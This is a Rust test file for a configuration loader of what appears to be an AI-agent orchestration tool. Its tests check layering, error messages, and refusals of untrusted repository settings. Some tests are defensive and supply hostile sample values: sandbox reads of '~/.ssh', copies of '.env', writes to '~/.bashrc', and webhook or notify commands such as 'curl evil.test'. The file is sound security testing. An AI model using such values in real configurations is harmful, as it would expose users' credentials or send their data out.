//! Tests of layers and refusals. They also check that keys, template and reference page agree.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

use super::keys::{KEYS, SECTIONS, ValueShape};
use super::*;
use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;
use tempfile::TempDir;

struct Home {
    folder: TempDir,
    sources: Sources,
}

impl Home {
    fn new() -> Home {
        let folder = tempfile::tempdir().expect("a folder");
        let environment =
            BTreeMap::from([("HOME".to_string(), folder.path().join("home").display().to_string())]);
        let sources = Sources::of(&folder.path().join("repository"), environment);
        Home { folder, sources }
    }

    fn user(self, text: &str) -> Home {
        write(self.sources.user.as_deref().expect("a path"), text);
        self
    }

    fn repository(self, text: &str) -> Home {
        write(self.sources.repository.as_deref().expect("a path"), text);
        self
    }

    fn variable(mut self, name: &str, value: &str) -> Home {
        self.sources.environment.insert(name.to_string(), value.to_string());
        self
    }

    fn flag(mut self, key: &str, value: &str) -> Home {
        let flag = Flag { name: "--set".to_string(), key: key.to_string(), value: value.to_string() };
        self.sources.flags.push(flag);
        self
    }

    fn load(&self) -> Config {
        Config::load(&self.sources).expect("a configuration")
    }

    /// All problems, with paths relative to the test's folder.
    fn problems(&self) -> Vec<String> {
        let Err(ConfigError::Refused(problems)) = Config::load(&self.sources) else { panic!("not refused") };
        let folder = format!("{}/", self.folder.path().display());
        problems.iter().map(|problem| problem.to_string().replace(&folder, "")).collect()
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
    std::fs::write(path, text).expect("a file");
}

fn refusal(text: &str) -> String {
    let problems = Home::new().repository(text).problems();
    assert_eq!(problems.len(), 1, "{problems:#?}");
    problems[0].strip_prefix("repository/remand.toml:").expect("the file").to_string()
}

#[test]
fn without_settings_the_built_in_values_apply() {
    let config = Home::new().load();
    assert_eq!(
        (config.workflow.as_deref(), config.mode, config.agent.as_str()),
        (None, RunMode::Autonomous, "")
    );
    assert_eq!((config.at_once, config.detect), (4, true));
    assert_eq!((config.limits, config.secrets), (ConfigLimits::default(), Secrets::default()));
    assert!(config.checks.is_empty() && config.roles.is_empty() && config.agents.is_empty());
}

#[test]
fn a_later_layer_wins_key_by_key_and_each_value_has_its_origin() {
    let home = Home::new()
        .user("mode = \"interactive\"\nagent = \"mine\"\n[limits]\nmoney = 2\ntime = \"1h\"\n")
        .repository("agent = \"theirs\"\n\n[limits]\n  money = 12.50\ndispatches = 9\n")
        .variable("REMAND_LIMITS_DISPATCHES", "8")
        .variable("REMAND_SOMETHING_ELSE", "1")
        .flag("limits.time", "90m");
    let config = home.load();
    assert_eq!((config.mode, config.agent.as_str()), (RunMode::Interactive, "theirs"));
    assert_eq!((config.limits.money, config.limits.dispatches), (Some(12_500_000), Some(8)));
    assert_eq!(config.limits.time, Some(Duration::from_secs(5400)));
    let folder = format!("{}/", home.folder.path().display());
    let lines: Vec<String> = config
        .origins()
        .iter()
        .map(|line| format!("{} = {} ({})", line.key, line.value, line.origin).replace(&folder, ""))
        .collect();
    let expected = [
        "agent = \"theirs\" (repository/remand.toml:1:1)",
        "at-once = 4 (built in)",
        "changes.depth = 64 (built in)",
        "changes.file-size = 50000000 (built in)",
        "changes.files = 10000 (built in)",
        "changes.name-length = 200 (built in)",
        "changes.names = \"plain\" (built in)",
        "changes.size = 200000000 (built in)",
        "checks.cache = true (built in)",
        "checks.detect = true (built in)",
        "checks.guards = \"all\" (built in)",
        "checks.prove = true (built in)",
        "checks.prove-time = \"1m\" (built in)",
        "conventions = [\"AGENTS.md\", \"CLAUDE.md\", \"GEMINI.md\", \"QWEN.md\", \"CONTEXT.md\", \"copilot-instructions.md\"] (built in)",
        "limits.dispatches = 8 (variable REMAND_LIMITS_DISPATCHES)",
        "limits.money = 12.5 (repository/remand.toml:4:3)",
        "limits.time = \"1h30m\" (flag --set)",
        "mcp.may-answer = [] (built in)",
        "mode = \"interactive\" (home/.config/remand/config.toml:1:1)",
        "notify.desktop = false (built in)",
        "notify.form = \"json\" (built in)",
        "notify.on = [\"gate\", \"limit\", \"over\", \"silent\"] (built in)",
        "notify.silent-after = \"5m\" (built in)",
        "notify.terminal = \"off\" (built in)",
        "notify.texts = false (built in)",
        "rounds.diverge-beyond = 2 (built in)",
        "rounds.gaps = 7 (built in)",
        "rounds.least = 100 (built in)",
        "rounds.warn-after = 2 (built in)",
        "sandbox.checks-environment = [] (built in)",
        "sandbox.copies = [] (built in)",
        "sandbox.disk = 20000000000 (built in)",
        "sandbox.environment = [] (built in)",
        "sandbox.file-size = 4000000000 (built in)",
        "sandbox.hooks-write = [] (built in)",
        "sandbox.memory = 8000000000 (built in)",
        "sandbox.processes = 512 (built in)",
        "sandbox.reads = [] (built in)",
        "sandbox.required = false (built in)",
        "sandbox.shared-memory = false (built in)",
        "sandbox.unix-sockets = false (built in)",
        "secrets.environment = [] (built in)",
        "secrets.patterns = [] (built in)",
    ];
    assert_eq!(lines, expected);
}

// CORE-09
#[test]
fn unknown_keys_are_refused_with_their_position_and_the_most_similar_key() {
    assert_eq!(refusal("\nworkflov = \"x\"\n"), "2:1: unknown key `workflov`; write `workflow`");
    assert_eq!(refusal("[limits]\n\n tokns = 3\n"), "3:2: unknown key `tokns` in `limits`; write `tokens`");
    assert_eq!(refusal("limits = { monney = 3 }\n"), "1:12: unknown key `monney` in `limits`; write `money`");
    assert_eq!(
        refusal("[checks]\ndetekt = false\n"),
        "2:1: unknown key `detekt` in `checks`; write `detect`"
    );
    assert_eq!(
        refusal("[checks.unit]\ncomand = \"x\"\n"),
        "2:1: unknown key `comand` in `checks.unit`; write `command`"
    );
    assert_eq!(
        refusal("[commit]\nsign = true\n"),
        "1:2: unknown key `commit`; use one of: workflow, mode, agent, model, at-once, conventions, limits, sandbox, changes, rounds, state, \
         secrets, notify, telemetry, mcp, forges, checks, roles, agents, prices"
    );
    assert_eq!(
        refusal("[roles]\nmodel = \"x\"\n"),
        "2:1: unknown key `model` in `roles`; write a table such as `[roles.NAME]`"
    );
    assert_eq!(
        refusal("[checks.\"a b\"]\ntier = 1\n"),
        "1:9: `a b` is not a valid name; use letters, digits, `-` and `_`, and in roles and checks also `:` and `/`"
    );
}

// CORE-09
#[test]
fn values_of_the_wrong_kind_are_refused_with_their_position_and_how_to_write_them() {
    assert_eq!(
        refusal("at-once = true\n"),
        "1:11: `at-once`: expected a count, found true or false; write a whole number from 1, such as 40, \"200k\" or \"2M\""
    );
    assert_eq!(
        refusal("at-once = 0\n"),
        "1:11: `at-once`: 0 would allow nothing; write a whole number from 1, such as 40, \"200k\" or \"2M\""
    );
    assert_eq!(
        refusal("at-once = -1\n"),
        "1:11: `at-once`: `-1` is out of range; write a whole number from 1, such as 40, \"200k\" or \"2M\""
    );
    assert_eq!(
        refusal("mode = \"interactiv\"\n"),
        "1:8: `mode`: unknown value `interactiv`; write `interactive`"
    );
    assert_eq!(refusal("limits = 3\n"), "1:10: `limits` is a table; write `[limits]` and its keys below");
    assert_eq!(
        refusal("checks.detect.command = \"x\"\n"),
        "1:8: `checks.detect`: expected true or false, found a table; write true or false"
    );
    assert_eq!(
        refusal("limits.money = 1.0000001\n"),
        "1:16: `limits.money`: `1.0000001` has more than 6 digits after the decimal point; write a decimal number such as 12.50"
    );
    assert_eq!(
        refusal("limits.money = -1\n"),
        "1:16: `limits.money`: `-1` is not an amount of money; write a decimal number such as 12.50"
    );
    assert_eq!(
        refusal("limits.time = \"90\"\n"),
        "1:15: `limits.time`: `90` has a number without a unit; write numbers with ms, s, m, h or d, such as \"90s\" or \"1h30m\""
    );
    assert_eq!(
        refusal("state.dir = \"here\"\n"),
        "1:13: `state.dir`: `here` is a relative path; write an absolute path, or one that begins with `~/`"
    );
    assert_eq!(
        refusal("secrets.environment = [\"A\", 1]\n"),
        "1:29: `secrets.environment`: expected a string, found a whole number; write a list such as [\"one\", \"two\"]"
    );
    assert_eq!(
        refusal("secrets.patterns = ['a', '(']\n"),
        "1:26: `secrets.patterns`: error: unclosed group; correct the regular expression"
    );
    assert_eq!(
        refusal("secrets.patterns = ['a*']\n"),
        "1:21: `secrets.patterns`: the pattern matches the empty string; correct the regular expression"
    );
    assert_eq!(
        refusal("checks.a.command = []\n"),
        "1:20: `checks.a.command`: the command is empty; write a string for the shell, or a list of words"
    );
    assert_eq!(
        refusal("checks.a.tier = 4\n"),
        "1:17: `checks.a.tier`: a command cannot have tier 4; write 1, 2 or 3"
    );
    assert_eq!(
        refusal("checks.a.folder = \"../x\"\n"),
        "1:19: `checks.a.folder`: `../x` is outside the repository; write a path relative to the root of the repository"
    );
    assert_eq!(
        refusal("checks.a.parser = \"pytst\"\n"),
        "1:19: `checks.a.parser`: unknown value `pytst`; write `pytest`"
    );
    assert_eq!(
        refusal("[checks.a]\ncommand = \"x\"\nparser = \"junit\"\n"),
        "3:1: `checks.a` reads JUnit XML but has no `report`; add `report` with the file or folder that it writes"
    );
}

// CORE-09
#[test]
fn all_problems_of_all_layers_are_reported_together() {
    let home = Home::new()
        .user("mode = 1\nagnet = \"x\"\n")
        .repository("at-once = \"many\"\n")
        .variable("REMAND_CHECKS_DETECT", "maybe")
        .flag("limits.moony", "3")
        .flag("limits.time", "soon");
    let expected = [
        "home/.config/remand/config.toml:2:1: unknown key `agnet`; write `agent`",
        "home/.config/remand/config.toml:1:8: `mode`: expected a choice, found a whole number; use one of: autonomous, interactive",
        "repository/remand.toml:1:11: `at-once`: `many` is not a count; write a whole number from 1, such as 40, \"200k\" \
         or \"2M\"",
        "variable REMAND_CHECKS_DETECT: `checks.detect`: expected true or false, found `maybe`; write true or false",
        "flag --set: unknown key `limits.moony`; write `limits.money`",
        "flag --set: `limits.time`: `soon` is not a duration; write numbers with ms, s, m, h or d, such as \"90s\" or \
         \"1h30m\"",
    ];
    assert_eq!(home.problems(), expected);
}

// CORE-09
#[test]
fn invalid_toml_invalid_utf8_and_folders_are_refused_with_their_position() {
    let broken = refusal("mode = \"autonomous\"\nagent = \n");
    assert!(broken.starts_with("2:9: "), "{broken}");
    let twice = refusal("mode = \"autonomous\"\nmode = \"autonomous\"\n");
    assert_eq!(twice, "2:1: duplicate key; write TOML 1.1");
    let home = Home::new().repository("");
    let path = home.sources.repository.clone().expect("a path");
    std::fs::write(&path, b"mode = \"\xff\"").expect("a file");
    assert_eq!(home.problems(), ["repository/remand.toml:1:9: the file is not UTF-8; save it as UTF-8"]);
    std::fs::remove_file(&path).expect("removed");
    std::fs::create_dir(&path).expect("a folder");
    let error = Config::load(&home.sources).expect_err("refused");
    assert_eq!(error.to_string(), format!("{} cannot be read", path.display()));
}

#[test]
fn named_tables_are_merged_from_all_layers() {
    let config = Home::new()
        .user("[checks.unit]\ntier = 1\n[agents.mine]\nargs = [\"-x\"]\n")
        .repository(
            "[checks.unit]\ncommand = [\"make\", \"unit\"]\nneeds = [\"cargo-check\"]\ntime = \"1m\"\n\
             [roles.reviewer]\nmodel = \"large\"\ntime = \"30m\"\n\
             [agents.mine]\ncommand = [\"/bin/agent\"]\ndepth = 3\n[agents.mine.more]\na = 1\n",
        )
        .load();
    let unit = &config.checks["unit"];
    assert_eq!(
        unit.command,
        Some(remand_checks::CommandLine::Argv(vec!["make".to_string(), "unit".to_string()]))
    );
    assert_eq!((unit.tier.map(u8::from), unit.time), (Some(1), Some(Duration::from_secs(60))));
    assert_eq!(config.roles["reviewer"].model.as_deref(), Some("large"));
    let agent = &config.agents["mine"];
    assert_eq!(
        agent.to_string(),
        "args = [\"-x\"]\ncommand = [\"/bin/agent\"]\ndepth = 3\n\n[more]\na = 1\n"
    );
}

#[test]
fn an_agent_defined_by_the_repository_gets_none_of_the_users_data() {
    let mine = "[agents.mine]\ntitle = \"Mine\"\ncommand = [\"./mine\"]\narguments = []\n";
    let refusal = |user: &str, repository: &str| {
        let refused = Home::new().user(user).repository(repository).problems();
        let [one] = refused.as_slice() else { panic!("{refused:?}") };
        one.strip_prefix("repository/remand.toml:").expect("the file").to_string()
    };
    assert_eq!(
        refusal("", "[agents.claude]\ncommand = [\"./evil\"]\n"),
        "2:1: `agents.claude.command`: an agent that a repository defines may not get your data, but this one has \
         `credentials`; move `[agents.claude]` to ~/.config/remand/config.toml"
    );
    for key in ["credentials", "copies", "reads", "keys", "variables", "hosts"] {
        let value = "[\"x\"]";
        let problem = refusal("", &format!("{mine}{key} = {value}\n"));
        assert!(problem.starts_with(&format!("5:1: `agents.mine.{key}`: ")), "{problem}");
        let problem = refusal(&format!("{mine}{key} = {value}\n"), "[agents.mine]\nmore = [\"--evil\"]\n");
        assert!(
            problem.starts_with("2:1: `agents.mine.more`: ") && problem.contains(&format!("`{key}`")),
            "{problem}"
        );
    }
    let problem = refusal("", "[agents.mine]\nlike = \"codex\"\ncommand = [\"./evil\"]\n");
    assert!(problem.starts_with("3:1: `agents.mine.command`: "), "{problem}");
    let problem = refusal("", "[agents.claude]\nunseen = []\n");
    assert!(problem.starts_with("2:1: `agents.claude.unseen`: "), "{problem}");
}

// CORE-05
#[test]
fn a_repository_cannot_open_the_sandbox_to_the_users_data() {
    for (key, value) in [
        ("environment", "[\"KEY\"]"),
        ("reads", "[\"~/.ssh\"]"),
        ("copies", "[\".env\"]"),
        ("hooks-write", "[\"~/.bashrc\"]"),
        ("unix-sockets", "true"),
    ] {
        let text = format!("[sandbox]\n{key} = {value}\n");
        let problems = Home::new().repository(&text).problems();
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0].contains(&format!("`sandbox.{key}`: a repository cannot widen")), "{problems:?}");
        Home::new().user(&text).load();
    }
    Home::new().repository("[sandbox]\nenvironment = []\nunix-sockets = false\nprocesses = 20\n").load();
}

#[test]
fn a_repository_that_sets_only_harmless_keys_does_not_define_the_agent() {
    let mine = "[agents.mine]\ntitle = \"Mine\"\ncommand = [\"./mine\"]\narguments = []\n";
    let users = "[agents.codex]\ncommand = [\"/opt/codex\"]\n[agents.second]\nlike = \"claude\"\n";
    let limits = "[agents.codex]\nmodel = \"small\"\nsilence = 30\n[agents.claude]\nsilence = 30\n";
    let config = Home::new().user(users).repository(&format!("{mine}{limits}")).load();
    let is_defined = ["mine", "codex", "claude", "second"].map(|name| config.is_defined_by_repository(name));
    assert_eq!(is_defined, [true, false, false, false]);
}

// CORE-05
#[test]
fn a_repository_cannot_choose_the_state_folder() {
    assert_eq!(
        refusal("\nstate.dir = \"/tmp\"\n"),
        "2:7: `state.dir`: a repository cannot choose your state folder; move `state.dir` to \
         ~/.config/remand/config.toml"
    );
}

// BY-09, BY-10, BY-12
#[test]
fn a_repository_cannot_send_anything_anywhere_or_let_a_program_answer() {
    for (key, value, what) in [
        ("notify.webhook", "\"https://evil.test/\"", "whom Remand tells about your runs"),
        ("notify.command", "\"curl evil.test\"", "whom Remand tells about your runs"),
        ("telemetry.endpoint", "\"https://evil.test/\"", "where Remand sends your traces"),
        ("mcp.may-answer", "[\"approve-plan\"]", "which gates a program may answer for you"),
        ("forges.github.read", "[\"evil\"]", "which programs run as you"),
    ] {
        let text = format!("{key} = {value}\n");
        let expected = format!(
            "`{key}`: a repository cannot choose {what}; move `{key}` to ~/.config/remand/config.toml"
        );
        let refused = refusal(&text);
        assert!(refused.ends_with(&expected), "{refused}");
        Home::new().user(&text).load();
    }
}

// BY-12
#[test]
fn the_secret_part_of_an_address_is_not_shown() {
    let config = Home::new().user("notify.webhook = \"https://me:pw@hooks.test/T0/SECRET?k=1\"\n").load();
    let shown = config.origins().into_iter().find(|value| value.key == "notify.webhook").expect("the value");
    assert_eq!(shown.value, "\"https://hooks.test/…\"");
}

#[test]
fn the_state_folder_is_the_configured_one_or_the_default() {
    let at = |home: Home, variables: &[(&str, &str)]| {
        let environment =
            variables.iter().map(|(name, value)| (name.to_string(), value.to_string())).collect();
        home.load().state_folder(&environment).map(|path| path.display().to_string())
    };
    let home = [("HOME", "/h")];
    assert_eq!(at(Home::new(), &home).as_deref(), Some("/h/.local/state/remand"));
    assert_eq!(at(Home::new(), &[("HOME", "/h"), ("XDG_STATE_HOME", "/s")]).as_deref(), Some("/s/remand"));
    assert_eq!(at(Home::new().user("state.dir = \"~/kept\""), &home).as_deref(), Some("/h/kept"));
    assert_eq!(at(Home::new().variable("REMAND_STATE_DIR", "/kept"), &home).as_deref(), Some("/kept"));
    assert_eq!(at(Home::new(), &[]), None);
}

#[test]
fn every_key_changes_the_configuration() {
    let plain = Home::new().load();
    for key in KEYS.iter().filter(|key| key.shape != ValueShape::Free) {
        assert!(SECTIONS.iter().any(|(section, _)| *section == key.section()), "{} has no section", key.path);
        let mut text = format!("{} = {}\n", key.path.replace('*', "mine"), key.example);
        if key.name() == "report" {
            text.push_str("checks.mine.parser = \"junit\"\n");
        }
        let config = Home::new().user(&text).load();
        let strip =
            |config: &Config| format!("{config:?}").split("settings:").next().expect("a prefix").to_string();
        assert_ne!(strip(&config), strip(&plain), "{text}");
    }
}

#[test]
fn the_template_changes_nothing_and_shows_valid_values() {
    let template = Config::template(None);
    let plain = Home::new().load();
    let config = Home::new().repository(&template).load();
    assert_eq!(config.origins(), plain.origins());
    assert_eq!(config, plain);
    let is_setting = |line: &str| {
        line.starts_with('[') || line.split_once(" = ").is_some_and(|(key, _)| !key.contains(' '))
    };
    let lines = template.lines().map(|line| line.strip_prefix("# ").unwrap_or(line));
    let settings: Vec<&str> = lines.filter(|line| is_setting(line) && !line.contains("junit")).collect();
    let uncommented = settings.join("\n").replace("report = \"build/test-results\"", "");
    // Some keys are allowed only in the user's file.
    let all = Home::new().user(&uncommented).load();
    for line in plain.origins() {
        let same = all.origins().into_iter().find(|other| other.key == line.key).expect("still there");
        assert_eq!(same.value, line.value, "{}", line.key);
        assert_ne!(same.origin, line.origin, "{} is not in the template", line.key);
    }
    let keys = KEYS.iter().filter(|key| key.shape != ValueShape::Free && key.name() != "report").count();
    assert_eq!(all.origins().len(), keys);
}

#[test]
fn a_written_file_sets_the_agent_and_nothing_else() {
    let plain = Home::new().load();
    for text in [Config::starter(None), Config::template(None)] {
        assert_eq!(Home::new().repository(&text).load(), plain, "{text}");
    }
    for text in [Config::starter(Some("a \"b\"")), Config::template(Some("a \"b\""))] {
        let config = Home::new().repository(&text).load();
        assert_eq!(config.agent, "a \"b\"", "{text}");
        let set = config.origins().into_iter().filter(|line| line.origin != ValueOrigin::BuiltIn);
        assert_eq!(set.map(|line| line.key).collect::<Vec<_>>(), ["agent"], "{text}");
    }
    let short = Config::starter(Some("claude"));
    assert!(short.lines().filter(|line| !line.is_empty()).count() <= 12, "{short}");
}

#[test]
fn names_of_roles_and_models_may_contain_punctuation() {
    let home = Home::new().repository(
        "[roles.'reviewer:security']\nmodel = 'a'\n[roles.'check/code']\nmodel = 'b'\n\
         [prices.'vendor/m-4.5*']\ninput = 3\noutput = 0.075\n",
    );
    let config = home.load();
    assert_eq!(config.roles["reviewer:security"].model.as_deref(), Some("a"));
    assert_eq!(config.roles["check/code"].model.as_deref(), Some("b"));
    let price = config.prices["vendor/m-4.5*"];
    assert_eq!((price.input, price.output, price.cached), (Some(3_000_000), Some(75_000), None));
    for wrong in [
        "[prices.'m*n']\ninput = 1",
        "[prices.m]\ninput = -1",
        "[prices.m]\ninputs = 1",
        "[agents.'a:b']\ncommand = ['x']",
    ] {
        assert_eq!(Home::new().repository(wrong).problems().len(), 1, "{wrong}");
    }
}

#[test]
fn the_reference_page_is_generated_from_the_keys() {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/reference/configuration.md");
    let committed = std::fs::read_to_string(&page).expect("the page");
    let generated = Config::guide();
    if committed != generated {
        let (_, path) = tempfile::NamedTempFile::new().expect("a file").keep().expect("kept");
        std::fs::write(&path, &generated).expect("written");
        panic!("{} is out of date: copy {} there", page.display(), path.display());
    }
}
